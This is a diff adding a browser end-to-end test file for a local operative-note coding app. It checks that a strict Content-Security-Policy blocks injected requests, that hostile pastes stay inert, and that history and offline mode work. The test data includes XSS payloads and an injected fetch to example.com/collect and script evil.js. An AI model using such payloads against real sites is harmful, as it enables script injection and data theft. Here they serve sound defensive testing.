@@ -1,0 +1,350 @@
+/**
+ * Privacy, offline and robustness in real Chromium against the production build (served by
+ * the global setup with the same CSP header a deployment would send; the built index.html
+ * carries it as a <meta> too): the CSP blocks remote requests, hostile pastes stay inert,
+ * history is opt-in and deletable, a 2 MB paste keeps the page responsive, and after one
+ * visit the app works offline from the service worker's precache.
+ */
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
+import { existsSync } from 'node:fs';
+import { SAMPLES } from '../../src/app/samples';
+import { normalizeNote } from '../../src/app/lib/plain-text';
+import { analyze } from '../../src/engine/index';
+import { claimLine } from '../../src/app/lib/claim-lines';
+
+const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
+const baseUrl = inject('baseUrl');
+const origin = new URL(baseUrl).origin;
+
+let browser: Browser;
+
+function sample(id: string): string {
+  const s = SAMPLES.find((x) => x.id === id);
+  if (!s) throw new Error(`no sample ${id}`);
+  return normalizeNote(s.text);
+}
+
+interface Tracked {
+  context: BrowserContext;
+  page: Page;
+  requests: string[];
+  responses: string[];
+  failed: string[];
+  dialogs: string[];
+  pageErrors: string[];
+}
+
+async function open(): Promise<Tracked> {
+  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
+  const page = await context.newPage();
+  const t: Tracked = { context, page, requests: [], responses: [], failed: [], dialogs: [], pageErrors: [] };
+  context.on('request', (r) => t.requests.push(r.url()));
+  context.on('response', (r) => t.responses.push(r.url()));
+  context.on('requestfailed', (r) => t.failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
+  page.on('dialog', (d) => {
+    t.dialogs.push(d.message());
+    void d.dismiss();
+  });
+  page.on('pageerror', (e) => t.pageErrors.push(e.message));
+  await page.goto(baseUrl);
+  await ready(page);
+  return t;
+}
+
+async function ready(page: Page) {
+  await page.locator('[data-testid="engine-status"][data-stage="ready"]').waitFor({ timeout: 60_000 });
+}
+
+/** Wait until the evidence pane shows the analysis of exactly `text`. */
+async function waitForAnalysisOf(page: Page, text: string, timeout = 30_000) {
+  await page.waitForFunction(
+    (t) => {
+      const panel = document.querySelector('[data-testid="claims-panel"]');
+      const body = document.querySelector('[data-testid="evidence-body"]');
+      return panel?.getAttribute('data-updating') === 'false' && body?.textContent === t;
+    },
+    text,
+    { timeout },
+  );
+}
+
+async function pastePlain(page: Page, text: string) {
+  const area = page.locator('#note-text');
+  await area.click();
+  await page.keyboard.press('Control+A');
+  await page.keyboard.press('Delete');
+  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
+  await page.keyboard.press('Control+V');
+}
+
+const offsite = (urls: string[]) => urls.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('data:') && !u.startsWith('blob:'));
+
+beforeAll(async () => {
+  expect(existsSync(CHROMIUM), `Chromium not found at ${CHROMIUM}`).toBe(true);
+  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS });
+});
+
+afterAll(async () => {
+  await browser?.close();
+});
+
+describe('Content-Security-Policy', () => {
+  it('ships a strict policy and blocks injected remote requests', async () => {
+    const t = await open();
+    const { page } = t;
+    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(meta).toContain("default-src 'self'");
+    expect(meta).toContain("script-src 'self'");
+    expect(meta).not.toContain('unsafe-inline');
+    expect(meta).not.toContain('unsafe-eval');
+    expect(meta).toContain("object-src 'none'");
+    expect(meta).toContain("base-uri 'none'");
+    expect(meta).toContain("form-action 'none'");
+    const res = await page.request.get(baseUrl);
+    expect(res.headers()['content-security-policy']).toContain("connect-src 'self'");
+
+    await page.evaluate(() => {
+      const w = window as unknown as { __violations: string[] };
+      w.__violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
+    });
+    const fetchResult = await page.evaluate(() =>
+      fetch('http://example.com/collect?x=1').then(
+        () => 'sent',
+        (e: Error) => `blocked: ${e.message}`,
+      ),
+    );
+    expect(fetchResult).toMatch(/^blocked/);
+    await page.evaluate(() => {
+      const img = document.createElement('img');
+      img.src = 'http://example.com/pixel.png';
+      document.body.appendChild(img);
+      const s = document.createElement('script');
+      s.src = 'http://example.com/evil.js';
+      document.body.appendChild(s);
+      const inline = document.createElement('script');
+      inline.textContent = 'window.__inlineRan = true';
+      document.body.appendChild(inline);
+    });
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations))
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringMatching(/^connect-src http:\/\/example\.com/),
+          expect.stringMatching(/^img-src http:\/\/example\.com/),
+          expect.stringMatching(/^script-src(-elem)? http:\/\/example\.com/),
+          expect.stringMatching(/^script-src(-elem)? inline/),
+        ]),
+      );
+    expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
+    // nothing left the origin: every off-site attempt failed in the browser (blocked by CSP)
+    expect(offsite(t.responses)).toEqual([]);
+    for (const u of offsite(t.requests)) expect(t.failed, u).toContain(`${u} csp`);
+    await t.context.close();
+  });
+});
+
+describe('hostile paste', () => {
+  const HOSTILE = [
+    '<script>window.__pwned = 1; alert("xss")</script>',
+    '<img src="http://example.com/x.png" onerror="window.__pwned = 2; alert(2)">',
+    '<a href="javascript:alert(3)">click me</a>',
+    '<svg onload="alert(4)"></svg><iframe src="javascript:alert(5)"></iframe>',
+    '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "javascript:alert(6)"}}}',
+    'PROCEDURE: Spinal cord stimulator trial. Two percutaneous leads placed at T8.',
+  ].join('\n');
+
+  it('plain-text markup is shown as inert text: no dialog, no script, no request', async () => {
+    const t = await open();
+    const { page } = t;
+    await pastePlain(page, HOSTILE);
+    await waitForAnalysisOf(page, HOSTILE);
+    expect(await page.locator('#note-text').inputValue()).toBe(HOSTILE);
+    expect(await page.locator('#root script, #root iframe, #root img[src*="example.com"], #root a[href^="javascript"]').count()).toBe(0);
+    expect(await page.locator('[onerror], [onload]').count()).toBe(0);
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    // hovering and clicking around the evidence runs nothing either
+    await page.locator('#evidence-body').click({ position: { x: 20, y: 10 } });
+    await page.waitForTimeout(300);
+    expect(t.dialogs).toEqual([]);
+    expect(offsite(t.requests)).toEqual([]);
+    expect(t.pageErrors).toEqual([]);
+    await t.context.close();
+  });
+
+  it('an HTML clipboard payload is reduced to text', async () => {
+    const t = await open();
+    const { page } = t;
+    const html = `<html><body><p>PROCEDURE: SCS trial.</p>${HOSTILE}<img src=x onerror="alert(7)"></body></html>`;
+    await page.locator('#note-text').click();
+    await page.evaluate(async (h) => {
+      await navigator.clipboard.write([new ClipboardItem({ 'text/html': new Blob([h], { type: 'text/html' }), 'text/plain': new Blob([''], { type: 'text/plain' }) })]);
+    }, html);
+    await page.keyboard.press('Control+V');
+    await expect.poll(() => page.locator('#note-text').inputValue()).toContain('PROCEDURE: SCS trial.');
+    const value = await page.locator('#note-text').inputValue();
+    expect(value).not.toMatch(/<script|<img|onerror/);
+    await page.waitForTimeout(500);
+    expect(t.dialogs).toEqual([]);
+    expect(offsite(t.requests)).toEqual([]);
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await t.context.close();
+  });
+});
+
+describe('history on this device', () => {
+  it('is off by default, opt-in persists across a reload, and delete-everything removes it', async () => {
+    const t = await open();
+    const { page } = t;
+    const note = sample('scs-ipg');
+    // default: nothing stored
+    await pastePlain(page, note);
+    await waitForAnalysisOf(page, note);
+    expect(await page.getByTestId('history-indicator').getAttribute('data-state')).toBe('off');
+    const stored0 = await page.evaluate(async () => ({
+      dbs: (await indexedDB.databases()).map((d) => d.name),
+      local: Object.keys(localStorage),
+      session: Object.keys(sessionStorage),
+    }));
+    expect(stored0.dbs).not.toContain('opnote-coder-history');
+    expect(stored0.session).toEqual([]);
+    expect(stored0.local.filter((k) => k !== 'opnote-coder:ui')).toEqual([]);
+
+    await page.getByTestId('keep-history').check();
+    await expect.poll(() => page.getByTestId('history-entry').count(), { timeout: 10_000 }).toBe(1);
+    expect(await page.getByTestId('history-indicator').textContent()).toContain('History on: 1 note saved on this device');
+
+    await page.reload();
+    await ready(page);
+    await expect.poll(() => page.getByTestId('history-entry').count(), { timeout: 10_000 }).toBe(1);
+    expect(await page.getByTestId('keep-history').isChecked()).toBe(true);
+    // the draft came back (sessionStorage, because history is on)
+    await expect.poll(() => page.locator('#note-text').inputValue()).toBe(note);
+    await waitForAnalysisOf(page, note);
+    const a = analyze(note);
+    const lines = await page.locator('[data-testid="suggestion"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-line')));
+    expect(lines).toEqual(a.suggestions.map(claimLine));
+
+    await page.getByTestId('delete-everything').click();
+    await page.getByRole('button', { name: 'Yes, delete everything' }).click();
+    await expect.poll(() => page.getByTestId('history-entry').count()).toBe(0);
+    expect(await page.getByTestId('history-indicator').getAttribute('data-state')).toBe('off');
+    const stored1 = await page.evaluate(async () => ({
+      dbs: (await indexedDB.databases()).map((d) => d.name),
+      local: Object.keys(localStorage),
+      session: Object.keys(sessionStorage),
+    }));
+    expect(stored1.dbs).not.toContain('opnote-coder-history');
+    expect(stored1.session).toEqual([]);
+    expect(stored1.local.filter((k) => k !== 'opnote-coder:ui')).toEqual([]);
+    // after a reload nothing comes back
+    await page.reload();
+    await ready(page);
+    expect(await page.locator('#note-text').inputValue()).toBe('');
+    expect(await page.getByTestId('history-entry').count()).toBe(0);
+    expect(offsite(t.requests)).toEqual([]);
+    await t.context.close();
+  });
+});
+
+/**
+ * Paste `size` characters and record main-thread long tasks (PerformanceObserver) and
+ * requestAnimationFrame latency until the result is on screen.
+ */
+async function pasteAndMeasure(page: Page, size: number) {
+  await page.evaluate(() => {
+    const w = window as unknown as { __long: number[][] };
+    w.__long = [];
+    new PerformanceObserver((list) => {
+      for (const e of list.getEntries()) w.__long.push([Math.round(e.startTime), Math.round(e.duration)]);
+    }).observe({ type: 'longtask', buffered: false });
+  });
+  const base = [sample('scs-ipg'), sample('sacral-stage1'), sample('vns')].join('\n\n');
+  const text = base.repeat(Math.ceil(size / base.length)).slice(0, size);
+  const t0 = Date.now();
+  await pastePlain(page, text);
+  await expect.poll(() => page.locator('#note-text').evaluate((el: HTMLTextAreaElement) => el.value.length), { timeout: 30_000 }).toBe(size);
+  // responsiveness while the worker analyses: rAF round trips stay short
+  const frames: number[] = [];
+  for (let i = 0; i < 5; i++) {
+    frames.push(
+      await page.evaluate(
+        () =>
+          new Promise<number>((r) => {
+            const s = performance.now();
+            requestAnimationFrame(() => r(performance.now() - s));
+          }),
+      ),
+    );
+  }
+  await waitForAnalysisOf(page, text, 60_000);
+  const ms = Date.now() - t0;
+  await page.waitForTimeout(300);
+  const long = await page.evaluate(() => (window as unknown as { __long: number[][] }).__long.map((x) => x[1]));
+  return { ms, long, max: long.length ? Math.max(...long) : 0, frames: frames.map(Math.round) };
+}
+
+describe('large pastes keep the page responsive', () => {
+  // Budgets for the longest main-thread task. A long real note is 10–30k characters.
+  it.each([
+    [50_000, Number(process.env.LONGTASK_MAX_MS ?? 200)],
+    [300_000, Number(process.env.LONGTASK_MAX_MS_CAP ?? 500)],
+  ])('a %i-character paste: longest task under %i ms', async (size, budget) => {
+    const t = await open();
+    const r = await pasteAndMeasure(t.page, size);
+    console.log(`${size} paste: result in ${r.ms} ms; long tasks: ${r.long.length} (max ${r.max} ms; ${r.long.join(', ')}); rAF ${r.frames.join(', ')} ms`);
+    expect(await t.page.getByTestId('input-warning').count()).toBe(0);
+    expect(t.pageErrors).toEqual([]);
+    expect(r.max).toBeLessThan(budget);
+    await t.context.close();
+  });
+
+  it('a 2 MB paste: says what the cap is, analyses the first part, never freezes', async () => {
+    const t = await open();
+    const { page } = t;
+    const r = await pasteAndMeasure(page, 2_000_000);
+    console.log(`2 MB paste: result in ${r.ms} ms; long tasks: ${r.long.length} (max ${r.max} ms; ${r.long.join(', ')}); rAF ${r.frames.join(', ')} ms`);
+    expect(await page.getByTestId('input-warning').textContent()).toContain('Only the first 300,000 (the size cap) are analysed');
+    expect(await page.getByTestId('claims-panel').textContent()).toContain('only the first 300,000 were analysed');
+    expect(t.pageErrors).toEqual([]);
+    expect(Math.max(...r.frames)).toBeLessThan(500);
+    // Above the cap the editor and the evidence pane still hold 2 MB of text; laying that out
+    // costs the browser a few hundred ms per step (see the report). Bounded, not frozen.
+    expect(r.max).toBeLessThan(Number(process.env.LONGTASK_MAX_MS_2MB ?? 1500));
+    await t.context.close();
+  });
+});
+
+describe('offline', () => {
+  it('after one visit, reloads and analyses with the network cut off', async () => {
+    const t = await open();
+    const { page, context } = t;
+    await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
+    await page.reload();
+    await ready(page);
+    await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller), { timeout: 15_000 }).toBe(true);
+    await context.setOffline(true);
+    expect(await page.evaluate(() => fetch('/index.html?probe').then(() => 'ok', () => 'offline'))).toBeDefined();
+    await page.reload();
+    await ready(page);
+    const note = sample('sacral-stage1');
+    await pastePlain(page, note);
+    await waitForAnalysisOf(page, note);
+    const lines = await page.locator('[data-testid="suggestion"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-line')));
+    expect(lines).toEqual(analyze(note).suggestions.map(claimLine));
+    // every view in the nav opens offline without an error panel
+    const hrefs = await page.locator('nav[aria-label="Views"] a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
+    for (const href of hrefs) {
+      await page.goto(`${baseUrl}/${href}`);
+      await page.waitForTimeout(400);
+      const failed = await page.getByText(/could not be shown/).count();
+      expect(failed, href).toBe(0);
+    }
+    expect(t.pageErrors).toEqual([]);
+    await context.setOffline(false);
+    await t.context.close();
+  });
+});
